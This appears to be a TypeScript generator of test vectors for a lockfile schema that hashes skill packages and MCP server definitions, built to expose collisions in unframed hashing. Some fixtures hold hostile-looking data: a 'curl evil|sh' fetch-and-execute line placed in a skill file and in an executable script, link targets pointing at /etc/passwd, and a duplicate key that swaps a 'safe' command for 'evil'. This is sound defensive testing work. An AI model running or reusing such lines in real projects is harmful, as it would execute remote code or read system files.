/**
 * Generates lockfile-schema/vectors/*.json. Run: npx tsx scripts/lock-vectors.ts
 * Written from lockfile-schema/README.md and deliberately without src/: what the recipe gives is computed here in the
 * plainest way there is, and what can be known beforehand (canonical forms, spellings of paths) is written by hand.
 * Bytes stand as hex, so that nothing hostile is in the repository in clear.
 */
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';

type Bytes = string | number[];

interface FileCase {
  name: string;
  why: string;
  bytes: Bytes;
}

interface PathCase extends FileCase {
  /** As in the lock, quotes and all. */
  json: string;
}

interface Entry {
  path: Bytes;
  content?: Bytes;
  target?: Bytes;
  executable?: true;
}

interface PackageCase {
  name: string;
  why: string;
  root: string;
  entries: Entry[];
}

interface ServerCase {
  name: string;
  why: string;
  definition: string;
  canonical: string;
}

const buffer = (bytes: Bytes): Buffer =>
  typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : Buffer.from(bytes);
const hex = (bytes: Bytes): string => buffer(bytes).toString('hex');
const sri = (bytes: Buffer): string => `sha512-${createHash('sha512').update(bytes).digest('base64')}`;
const ascii = (text: string): number[] => [...Buffer.from(text, 'latin1')];

const CRLF = [0x0d, 0x0a];
const BOM = '\ufeff';

const FILES: FileCase[] = [
  { name: 'empty', why: 'an empty file is a file', bytes: '' },
  { name: 'lf', why: 'text as it is', bytes: 'one\ntwo\n' },
  { name: 'no-final-newline', why: 'none is added', bytes: 'one\ntwo' },
  { name: 'crlf', why: 'folded: the digest of "lf"', bytes: 'one\r\ntwo\r\n' },
  { name: 'crlf-only', why: 'folded to two LF', bytes: '\r\n\r\n' },
  { name: 'lone-cr', why: 'kept: it can hide what stands before it', bytes: 'one\rtwo\r' },
  { name: 'mixed-line-ends', why: 'CRLF folded, CR and LF kept', bytes: 'a\r\nb\rc\nd\r\n' },
  {
    name: 'cr-crlf',
    why: 'one pass: CR CR LF becomes CR LF, which is not folded again',
    bytes: 'a\r\r\nb\n',
  },
  { name: 'lf-cr', why: 'LF CR is no line end of any system', bytes: 'a\n\rb\n' },
  { name: 'cr-at-end', why: 'the last byte is a lone CR', bytes: 'a\nb\r' },
  { name: 'bom', why: 'kept: not the digest of "lf"', bytes: `${BOM}one\ntwo\n` },
  {
    name: 'bom-crlf',
    why: 'the BOM is kept, CRLF folded: the digest of "bom"',
    bytes: `${BOM}one\r\ntwo\r\n`,
  },
  {
    name: 'nul-crlf',
    why: 'NUL: hashed raw, CRLF and all',
    bytes: [...ascii('one'), 0, ...CRLF, ...ascii('two'), ...CRLF],
  },
  {
    name: 'utf-16le-crlf',
    why: 'not UTF-8: raw',
    bytes: [0xff, 0xfe, 0x61, 0, 0x0d, 0, 0x0a, 0, 0x62, 0],
  },
  {
    name: 'utf-16be-crlf',
    why: 'not UTF-8: raw',
    bytes: [0xfe, 0xff, 0, 0x61, 0, 0x0d, 0, 0x0a, 0, 0x62],
  },
  {
    name: 'utf-16be-bom-crlf-bytes',
    why: 'U+0D0A is a letter, its bytes are CR LF: the BOM makes it invalid UTF-8, so raw',
    bytes: [0xfe, 0xff, 0x0d, 0x0a, 0x0d, 0x0a],
  },
  {
    name: 'utf-16be-without-bom',
    why: 'the same without a BOM is valid UTF-8 by accident: folded, encodings are not guessed',
    bytes: [0x0d, 0x0a, 0x0d, 0x0a],
  },
  {
    name: 'latin-1-crlf',
    why: 'invalid UTF-8: raw',
    bytes: [...ascii('caf\xe9'), ...CRLF],
  },
  { name: 'truncated-sequence-crlf', why: 'invalid UTF-8: raw', bytes: [...ascii('a'), ...CRLF, 0xc3] },
  { name: 'overlong-crlf', why: 'C0 8A is no LF but invalid UTF-8: raw', bytes: [0xc0, 0x8a, ...CRLF] },
  { name: 'surrogate-crlf', why: 'ED A0 80 is invalid UTF-8: raw', bytes: [0xed, 0xa0, 0x80, ...CRLF] },
  { name: 'too-high-crlf', why: 'above U+10FFFF: raw', bytes: [0xf4, 0x90, 0x80, 0x80, ...CRLF] },
  {
    name: 'noncharacter-crlf',
    why: 'U+FFFE and U+10FFFF are valid UTF-8: folded',
    bytes: '\ufffe\u{10ffff}\r\n',
  },
  {
    name: 'other-line-ends',
    why: 'U+0085, U+2028, vertical tab and form feed are kept',
    bytes: 'a\u0085b\u2028c\vd\fe\r\n',
  },
  { name: 'nfc', why: 'not normalised', bytes: 'caf\u00e9\n' },
  { name: 'nfd', why: 'not normalised: not the digest of "nfc"', bytes: 'cafe\u0301\n' },
  { name: 'hidden-tags', why: 'invisible characters count like any other', bytes: 'a\u{e0061}\u{e0062}\n' },
];

const LINKS: FileCase[] = [
  { name: 'sibling', why: 'the target as stored', bytes: 'CLAUDE.md' },
  { name: 'out-of-the-root', why: 'a target is never resolved', bytes: '../../etc/passwd' },
  { name: 'absolute', why: 'a target is never resolved', bytes: '/etc/passwd' },
  { name: 'not-normal', why: 'nor normalised', bytes: './a//b/../CLAUDE.md/' },
  { name: 'backslashes', why: 'no separators here', bytes: 'a\\b' },
  { name: 'newline', why: 'no newline is cut off', bytes: 'CLAUDE.md\n' },
  { name: 'crlf', why: 'a target is no text: CRLF is not folded', bytes: 'a\r\nb' },
  { name: 'nfd', why: 'not normalised', bytes: 'cafe\u0301' },
  { name: 'not-utf-8', why: 'bytes, not characters', bytes: ascii('caf\xe9') },
];

const PATHS: PathCase[] = [
  { name: 'ascii', why: 'as it is', bytes: 'skills/pdf/SKILL.md', json: '"skills/pdf/SKILL.md"' },
  { name: 'nfc', why: 'escaped, not normalised', bytes: 'caf\u00e9', json: '"caf\\u00e9"' },
  { name: 'nfd', why: 'another name', bytes: 'cafe\u0301', json: '"cafe\\u0301"' },
  { name: 'newline', why: 'short escape', bytes: 'a\nb\r\t\b\f', json: '"a\\nb\\r\\t\\b\\f"' },
  { name: 'quote', why: 'escaped', bytes: 'a"b\\c', json: '"a\\"b\\\\c"' },
  { name: 'backslash-zero', why: 'two characters, no NUL', bytes: 'a\\0b', json: '"a\\\\0b"' },
  { name: 'controls', why: 'hex escape, DEL too', bytes: 'a\x1b[2J\x7f', json: '"a\\u001b[2J\\u007f"' },
  { name: 'bidi', why: 'what reorders stands as an escape', bytes: 'a\u202eb', json: '"a\\u202eb"' },
  { name: 'line-separator', why: 'escaped', bytes: 'a\u2028b', json: '"a\\u2028b"' },
  { name: 'astral', why: 'two escapes, lower case', bytes: '\u{1f600}', json: '"\\ud83d\\ude00"' },
  { name: 'replacement', why: 'a character like any other', bytes: '\ufffd', json: '"\\ufffd"' },
  { name: 'latin-1', why: 'byte E9 is U+DCE9', bytes: ascii('caf\xe9'), json: '"caf\\udce9"' },
  {
    name: 'astral-and-byte',
    why: 'the byte after a character is no half of it',
    bytes: [0xf0, 0x9f, 0x98, 0x80, 0x80],
    json: '"\\ud83d\\ude00\\udc80"',
  },
  {
    name: 'overlong-nul',
    why: 'C0 80 is two bytes that are not UTF-8',
    bytes: [0x61, 0xc0, 0x80, 0x62],
    json: '"a\\udcc0\\udc80b"',
  },
  {
    name: 'surrogates',
    why: 'a pair in UTF-8 (CESU-8) is six bytes that are not UTF-8',
    bytes: [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80],
    json: '"\\udced\\udca0\\udcbd\\udced\\udcb8\\udc80"',
  },
  {
    name: 'truncated',
    why: 'each byte on its own',
    bytes: [0xf0, 0x9f, 0x98, 0x61],
    json: '"\\udcf0\\udc9f\\udc98a"',
  },
];

const file = (path: Bytes, content: Bytes): Entry => ({ path, content });
const link = (path: Bytes, target: Bytes): Entry => ({ path, target });
const program = (path: Bytes, content: Bytes): Entry => ({ path, content, executable: true });

const LIKE_A_RECORD = `a\n1${'x'.repeat(3)}file100644sha512-${'A'.repeat(86)}==\n1`;

const PACKAGES: PackageCase[] = [
  { name: 'empty', why: 'no records: SHA-512 of nothing', root: 'p', entries: [] },
  { name: 'one-file', why: 'one record', root: 'p', entries: [file('p/SKILL.md', '# a\n')] },
  {
    name: 'crlf',
    why: 'records hold digests: that of "one-file"',
    root: 'p',
    entries: [file('p/SKILL.md', '# a\r\n')],
  },
  {
    name: 'moved',
    why: 'paths are relative to the package: that of "one-file"',
    root: 'vendor/q',
    entries: [file('vendor/q/SKILL.md', '# a\n')],
  },
  {
    name: 'executable',
    why: 'mode 100755: not that of "one-file"',
    root: 'p',
    entries: [program('p/SKILL.md', '# a\n')],
  },
  { name: 'link', why: 'type link, mode 120000', root: 'p', entries: [link('p/SKILL.md', '# a\n')] },
  {
    name: 'only-what-is-below',
    why: 'neither a sibling whose name begins alike nor a file with the name of the root',
    root: 'skills/pdf',
    entries: [
      file('skills/pdf2/SKILL.md', 'x'),
      file('skills/pdf.md', 'y'),
      file('skills/pdf/SKILL.md', '# a\n'),
      file('SKILL.md', 'z'),
    ],
  },
  {
    name: 'nested',
    why: 'what is in a package in the package is in both',
    root: 'p',
    entries: [file('p/SKILL.md', '# a\n'), file('p/skills/q/SKILL.md', '# b\n')],
  },
  {
    name: 'whole-project',
    why: 'the root of the project is the empty path',
    root: '',
    entries: [file('AGENTS.md', 'a'), file('p/SKILL.md', 'b')],
  },
  {
    name: 'sorted-by-bytes',
    why: 'U+FF61 (EF BD A1) before U+1F600 (F0 9F 98 80); UTF-16 units have it the other way round',
    root: 'p',
    entries: [file('p/\u{1f600}', 'a'), file('p/\uff61', 'b')],
  },
  {
    name: 'sorted-as-a-whole',
    why: 'the path as one string of bytes: a-b, a.b, a/b, a0; Z before a',
    root: 'p',
    entries: [
      file('p/a0', '1'),
      file('p/a/b', '2'),
      file('p/a.b', '3'),
      file('p/a-b', '4'),
      file('p/Z', '5'),
    ],
  },
  {
    name: 'nfc-and-nfd',
    why: 'two files',
    root: 'p',
    entries: [file('p/caf\u00e9', 'a'), file('p/cafe\u0301', 'b')],
  },
  { name: 'nfc', why: 'not that of "nfd"', root: 'p', entries: [file('p/caf\u00e9', 'a')] },
  { name: 'nfd', why: 'not that of "nfc"', root: 'p', entries: [file('p/cafe\u0301', 'a')] },
  {
    name: 'not-utf-8',
    why: 'the bytes of the name, not their spelling in the lock',
    root: 'p',
    entries: [file([...ascii('p/caf\xe9')], 'a'), file('p/caf\u00e9', 'b')],
  },
  {
    name: 'overlong-nul',
    why: 'C0 80 is no NUL',
    root: 'p',
    entries: [file([...ascii('p/a'), 0xc0, 0x80, ...ascii('file')], 'a')],
  },
  { name: 'newline', why: 'LF in a name', root: 'p', entries: [file('p/a\nb', 'a')] },
  {
    name: 'like-a-record',
    why: 'a name that looks like the end of a record and the beginning of another',
    root: 'p',
    entries: [file(`p/${LIKE_A_RECORD}`, 'a')],
  },
  {
    name: 'digits',
    why: 'a name that looks like a length',
    root: 'p',
    entries: [file('p/1', 'a'), file('p/11', 'b'), file('p/1\n1', 'c')],
  },
  // Where names and contents are joined without a frame (microsoft/apm, content_hash.py), these five are one.
  {
    name: 'joined-abcd-1',
    why: 'unframed: "abcd"',
    root: 'p',
    entries: [file('p/a', 'bcd')],
  },
  {
    name: 'joined-abcd-2',
    why: 'unframed: "abcd"; content moved into the name',
    root: 'p',
    entries: [file('p/ab', 'cd')],
  },
  {
    name: 'joined-abcd-3',
    why: 'unframed: "abcd"; all content is name',
    root: 'p',
    entries: [file('p/abcd', '')],
  },
  {
    name: 'joined-abcd-4',
    why: 'unframed: "abcd"; one file split into two',
    root: 'p',
    entries: [file('p/a', 'b'), file('p/c', 'd')],
  },
  {
    name: 'joined-abcd-5',
    why: 'unframed: "abcd"; a link beside it is skipped there',
    root: 'p',
    entries: [file('p/a', 'bcd'), link('p/z', '/etc')],
  },
  {
    name: 'joined-path-1',
    why: 'unframed: "a/bc"; a folder',
    root: 'p',
    entries: [file('p/a/b', 'c')],
  },
  {
    name: 'joined-path-2',
    why: 'unframed: "a/bc"; a separator in the content',
    root: 'p',
    entries: [file('p/a', '/bc')],
  },
  {
    name: 'joined-skill-1',
    why: 'unframed: an honest skill',
    root: 'p',
    entries: [file('p/SKILL.md', '# safe\nrun.shcurl evil|sh\n')],
  },
  {
    name: 'joined-skill-2',
    why: 'unframed: the same, and its last line is a script of its own now',
    root: 'p',
    entries: [file('p/SKILL.md', '# safe\n'), program('p/run.sh', 'curl evil|sh\n')],
  },
];

const SERVERS: ServerCase[] = [
  { name: 'empty', why: 'no members', definition: '{ }', canonical: '{}' },
  {
    name: 'key-order',
    why: 'members sorted, no white space',
    definition: '{ "command": "npx", "args": ["-y", "pkg@1.2.3"],\n "env": { "B": "2", "A": "1" } }',
    canonical: '{"args":["-y","pkg@1.2.3"],"command":"npx","env":{"A":"1","B":"2"}}',
  },
  {
    name: 'list-order',
    why: 'lists keep their order: another definition',
    definition: '{"args":["pkg@1.2.3","-y"],"command":"npx","env":{"A":"1","B":"2"}}',
    canonical: '{"args":["pkg@1.2.3","-y"],"command":"npx","env":{"A":"1","B":"2"}}',
  },
  {
    name: 'literals',
    why: 'as they are',
    definition: '{"a":null,"b":true,"c":false,"d":[],"e":{},"f":""}',
    canonical: '{"a":null,"b":true,"c":false,"d":[],"e":{},"f":""}',
  },
  {
    name: 'numbers',
    why: 'as ECMAScript writes them',
    definition: '[1.0,1e0,-0,0.0,4.50,2e-3,1e20,1e21,1E+2,123456789012345680000,0.000001,1e-7]',
    canonical: '[1,1,0,0,4.5,0.002,100000000000000000000,1e+21,100,123456789012345680000,0.000001,1e-7]',
  },
  {
    name: 'numbers-as-doubles',
    why: 'IEEE 754 double precision, RFC 8785 appendix B',
    definition:
      '[333333333.33333329,1e-27,5e-324,1.7976931348623157e308,9007199254740993,-1.5,295147905179352830000,9.5367431640625e-7]',
    canonical:
      '[333333333.3333333,1e-27,5e-324,1.7976931348623157e+308,9007199254740992,-1.5,295147905179352830000,9.5367431640625e-7]',
  },
  {
    name: 'number-too-large',
    why: 'no double: null, as JSON.stringify has it',
    definition: '[1e400,-1e400]',
    canonical: '[null,null]',
  },
  {
    name: 'string-escapes',
    why: 'short escapes where there are, else hex in lower case',
    definition: '"\\u0000\\u0008\\u0009\\u000a\\u000b\\u000C\\u000d\\u001F\\u0022\\u005c\\/"',
    canonical: '"\\u0000\\b\\t\\n\\u000b\\f\\r\\u001f\\"\\\\/"',
  },
  {
    name: 'string-characters',
    why: 'everything else is itself, in UTF-8',
    definition: '"\\u007f\\u00e9e\\u0301\\u2028\\ufeff\\ud83d\\ude00\\u20ac"',
    canonical: '"\x7f\u00e9e\u0301\u2028\ufeff\u{1f600}\u20ac"',
  },
  {
    name: 'lone-surrogate',
    why: 'RFC 8785 forbids it; here it stands as an escape, as JSON.stringify has it',
    definition: '["\\uD800","\\udfff\\ud83d"]',
    canonical: '["\\ud800","\\udfff\\ud83d"]',
  },
  {
    name: 'keys-by-utf-16',
    why: 'U+1F600 (D83D DE00) before U+FF61: RFC 8785 sorts keys by UTF-16 units, unlike paths',
    definition: '{"\\uff61":1,"\\ud83d\\ude00":2,"\\u20ac":3,"\\r":4,"1":5}',
    canonical: '{"\\r":4,"1":5,"\u20ac":3,"\u{1f600}":2,"\uff61":1}',
  },
  {
    name: 'keys-like-numbers',
    why: 'sorted as text',
    definition: '{"9":1,"10":2,"1":3,"a":4,"":5}',
    canonical: '{"":5,"1":3,"10":2,"9":1,"a":4}',
  },
  {
    name: 'proto',
    why: 'a key like any other',
    definition: '{"command":"npx","__proto__":{"args":["-y"]},"constructor":{"prototype":1}}',
    canonical: '{"__proto__":{"args":["-y"]},"command":"npx","constructor":{"prototype":1}}',
  },
  {
    name: 'duplicate-key',
    why: 'the last counts',
    definition: '{"command":"safe","args":[],"command":"evil"}',
    canonical: '{"args":[],"command":"evil"}',
  },
  {
    name: 'nested',
    why: 'sorted at every depth',
    definition: '{"b":[{"d":{"f":1,"e":[{"h":1,"g":2}]},"c":2}],"a":0}',
    canonical: '{"a":0,"b":[{"c":2,"d":{"e":[{"g":2,"h":1}],"f":1}}]}',
  },
  {
    name: 'values-count',
    why: 'values of the environment are in the digest, though never in the lock',
    definition: '{"url":"https://example.com/mcp","headers":{"Authorization":"Bearer $TOKEN"}}',
    canonical: '{"headers":{"Authorization":"Bearer $TOKEN"},"url":"https://example.com/mcp"}',
  },
];

/** README, "Files". */
function folded(bytes: Buffer): Buffer {
  if (bytes.includes(0)) return bytes;
  try {
    new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  } catch {
    return bytes;
  }
  return Buffer.from(bytes.toString('latin1').split('\r\n').join('\n'), 'latin1');
}

interface Digested {
  name: Buffer;
  record: Buffer;
}

/** README, "Packages". */
function recordsOf({ root, entries }: PackageCase): Buffer {
  const prefix = Buffer.from(root === '' ? '' : `${root}/`);
  return Buffer.concat(
    entries
      .filter(({ path }) => buffer(path).subarray(0, prefix.length).equals(prefix))
      .map(({ path, content, target, executable }): Digested => {
        const name = buffer(path).subarray(prefix.length);
        const [type, mode, integrity] =
          target === undefined
            ? ['file', executable ? '100755' : '100644', sri(folded(buffer(content!)))]
            : ['link', '120000', sri(buffer(target))];
        const tail = `\0${type}\0${mode}\0${integrity}\n`;
        return { name, record: Buffer.concat([Buffer.from(`${name.length}\0`), name, Buffer.from(tail)]) };
      })
      .sort((a, b) => Buffer.compare(a.name, b.name))
      .map(({ record }) => record),
  );
}

/** What a digest gives that joins names and contents, and skips links: `a` + `bcd` is `ab` + `cd`. */
function unframed({ root, entries }: PackageCase): string {
  const parts = entries
    .filter(({ content }) => content !== undefined)
    .map(({ path, content }) => [buffer(path).subarray(root.length + 1), buffer(content!)] as const)
    .sort(([a], [b]) => Buffer.compare(a, b));
  return createHash('sha256').update(Buffer.concat(parts.flat())).digest('hex');
}

function packageVector(item: PackageCase): object {
  const records = recordsOf(item);
  return {
    name: item.name,
    why: item.why,
    root: hex(item.root),
    entries: item.entries.map(({ path, content, target, executable }) => ({
      path: hex(path),
      type: target === undefined ? 'file' : 'link',
      ...(executable ? { executable } : {}),
      bytes: hex(target ?? content!),
    })),
    records: records.toString('hex'),
    integrity: sri(records),
    ...(item.name.startsWith('joined-') ? { unframed: unframed(item) } : {}),
  };
}

/** @returns name of each file to its vectors */
export function lockVectors(): Record<string, object[]> {
  return {
    files: FILES.map(({ name, why, bytes }) => ({
      name,
      why,
      bytes: hex(bytes),
      integrity: sri(folded(buffer(bytes))),
    })),
    links: LINKS.map(({ name, why, bytes }) => ({
      name,
      why,
      bytes: hex(bytes),
      integrity: sri(buffer(bytes)),
    })),
    packages: PACKAGES.map(packageVector),
    paths: PATHS.map(({ name, why, bytes, json }) => ({ name, why, bytes: hex(bytes), json })),
    servers: SERVERS.map(({ name, why, definition, canonical }) => ({
      name,
      why,
      definition,
      canonical: hex(canonical),
      integrity: sri(Buffer.from(canonical, 'utf8')),
    })),
  };
}

/** @returns a file of vectors, ASCII */
export function vectorText(vectors: object[]): string {
  return `${JSON.stringify(vectors, null, 2)}\n`;
}

if (process.argv[1]?.endsWith('lock-vectors.ts'))
  for (const [name, vectors] of Object.entries(lockVectors()))
    writeFileSync(`lockfile-schema/vectors/${name}.json`, vectorText(vectors));
